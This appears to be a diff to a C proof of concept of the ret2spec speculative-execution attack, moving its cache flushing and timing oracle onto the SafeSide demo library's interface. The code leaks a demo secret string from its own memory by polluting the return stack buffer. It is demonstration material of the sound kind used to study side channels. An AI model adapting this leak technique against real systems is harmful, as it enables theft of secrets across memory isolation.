@@ -1,89 +1,30 @@
 // Combined ret2spec C file
+//
+// The oracle, flushing and scoring come from the support library through its
+// C interface (att2_r2s/demos/safeside_c.h), so this experiment runs the same
+// hot paths as the C++ demos. Build against the library built in BUILD, e.g.:
+//
+//     cc -O1 -I../att2_r2s/demos ret2spec_sa.c BUILD/libsafeside.a -lstdc++ -lm -lpthread
 #include <stdint.h>
 #include <stdlib.h>
 #include <stdio.h>
 #include <string.h>
 #include <stdbool.h>
 
-#include "asm/measurereadlatency.h"  
+#include "safeside_c.h"
 
-// Cache line and page size (used for alignment and flushing)
-#define CACHE_LINE_SIZE 64
-#define PAGE_SIZE 4096
-#define ORACLE_SIZE 256          // One oracle entry per possible byte value
 #define MAX_RUNS 100000          // Maximum leak attempts before giving up
 #define K_RECURSION_DEPTH 30     // Depth of recursive calls to fill/underflow the RSB
 
-// Oracle byte array aligned to cache lines for each byte value
-typedef struct {
-    uint8_t byte[CACHE_LINE_SIZE];  // One cache line per possible byte value
-} BigByte;
-
-typedef struct {
-    BigByte oracles_[ORACLE_SIZE];  // 256 aligned cache-line entries
-} OracleArray;
-
-// Global oracle array used to trigger timing effects
-static OracleArray oracle;
-
-// Score array to accumulate timing hits for each byte candidate
-static int scores[ORACLE_SIZE] = {0};
+// Side channel in static storage; its oracle has one page per byte value.
+static SafesideCacheSideChannel channel;
+static const unsigned char *oracle;
+static size_t oracle_stride;
 
 // Pointer to the secret we want to leak
 extern const char *private_data;
 size_t current_offset;  // Index of the byte we want to leak from private_data
 
-// Forward declarations (actual implementations are likely in assembly)
-void FlushDataCacheLineNoBarrier(const void *addr);
-void MemoryAndSpeculationBarrier();
-void ForceRead(const void *addr);
-
-// Flush a range of memory from the data cache line-by-line
-void FlushFromDataCache(const void *start, const void *end) {
-    const uintptr_t begin = (uintptr_t)start;
-    const uintptr_t stop = (uintptr_t)end;
-    for (uintptr_t p = begin; p < stop; p += CACHE_LINE_SIZE) {
-        FlushDataCacheLineNoBarrier((const void*)p);  // Flush each line
-    }
-    MemoryAndSpeculationBarrier();  // Prevent reordering
-}
-
-// Flush the oracle array to prime the cache for timing detection
-void FlushOracle() {
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        FlushDataCacheLineNoBarrier(&oracle.oracles_[i]);
-    }
-    MemoryAndSpeculationBarrier();
-}
-
-// Measure which oracle entry was accessed (i.e., leaked) based on timing
-char RecomputeScores(char safe_char) {
-    uint64_t latencies[ORACLE_SIZE] = {0};
-
-    // Access oracle in pseudo-random order to prevent prefetching artifacts
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        int mix_i = (i * 167 + 13) & 0xFF;
-        latencies[mix_i] = MeasureReadLatency(&oracle.oracles_[mix_i]);
-    }
-
-    // Use safe_char (which was speculatively accessed) as baseline latency
-    uint64_t safe_latency = latencies[(unsigned char)safe_char];
-    int best = -1, best_score = 0;
-
-    // Accumulate scores for any byte that was faster (i.e., in cache)
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        if (latencies[i] < safe_latency && i != (unsigned char)safe_char) {
-            scores[i]++;
-            if (scores[i] > best_score) {
-                best_score = scores[i];
-                best = i;
-            }
-        }
-    }
-
-    return (char)best;  // Return best guess for leaked byte
-}
-
 // Global state for controlling speculative function execution
 bool false_value = 0;
 void (*return_true_base_case)();     // Normally a NOP
@@ -94,16 +35,25 @@ char *stack_marks[256];
 int stack_index = 0;
 
 // Function that never returns true — used to pollute the RSB
-void ReturnsFalse(int depth) {
+bool ReturnsFalse(int depth) {
     if (depth > 0) {
-        ReturnsFalse(depth - 1);  // Recurse to fill RSB
+        if (ReturnsFalse(depth - 1)) {  // Recurse to fill RSB
+            // Unreachable architecturally. Reached speculatively when a
+            // ReturnsTrue frame returns here through a mispredicted return.
+            SafesideForceRead(
+                oracle + oracle_stride *
+                             (unsigned char)private_data[current_offset]);
+            fprintf(stderr, "Dead code. Must not be printed.\n");
+            exit(1);
+        }
     } else {
         return_true_base_case();  // Triggers speculative return
     }
+    return false_value;
 }
 
 // Function that always returns true — mispredicted to call ReturnsFalse
-void ReturnsTrue(int depth) {
+bool ReturnsTrue(int depth) {
     char mark;  // Local variable to mark this stack frame
     stack_marks[stack_index++] = &mark;
 
@@ -113,15 +63,18 @@ void ReturnsTrue(int depth) {
         return_false_base_case();  // Deepest call starts the false path
     }
 
-    // On return, flush stack region between current and previous mark
+    // On return, flush stack region between current and previous mark, so
+    // that this frame's return address is uncached right before it is used
     stack_index--;
-    FlushFromDataCache(&mark, stack_marks[stack_index]);
+    SafesideFlushFromDataCache(&mark, stack_marks[stack_index]);
+    return true;
 }
 
 // Attempt to leak one byte via speculative return and cache timing
 char Ret2SpecLeakByte() {
+    SafesideCacheSideChannelResetScores(&channel);
     for (int run = 0; run < MAX_RUNS; ++run) {
-        FlushOracle();  // Clear oracle from cache
+        SafesideCacheSideChannelFlushOracle(&channel);  // Clear oracle from cache
 
         // Stack mark to prevent reading uninitialized stack_marks[0]
         char mark;
@@ -132,9 +85,11 @@ char Ret2SpecLeakByte() {
 
         stack_index = 0;  // Reset after recursion unwinds
 
-        // Recompute which byte was cached speculatively
-        char leaked = RecomputeScores((char)(run & 0xFF));
-        if (scores[(unsigned char)leaked] > 3) {
+        // Recompute which byte was cached speculatively; the library adds an
+        // architectural hit to compare against
+        char leaked;
+        if (SafesideCacheSideChannelAddHitAndRecomputeScores(&channel,
+                                                             &leaked)) {
             return leaked;  // If high enough confidence, return byte
         }
     }
@@ -157,6 +112,10 @@ const char *private_data = "It's a s3kr3t!!!";
 
 
 int main() {
+    SafesideCacheSideChannelInit(&channel);
+    oracle = SafesideCacheSideChannelOracle(&channel);
+    oracle_stride = SafesideCacheSideChannelOracleStride();
+
     // Initialize function pointers
     return_true_base_case = NopFunction;
     return_false_base_case = ReturnsFalseStart;
@@ -170,5 +129,6 @@ int main() {
     }
 
     printf("\nDone.\n");
+    SafesideCacheSideChannelDestroy(&channel);
     return 0;
 }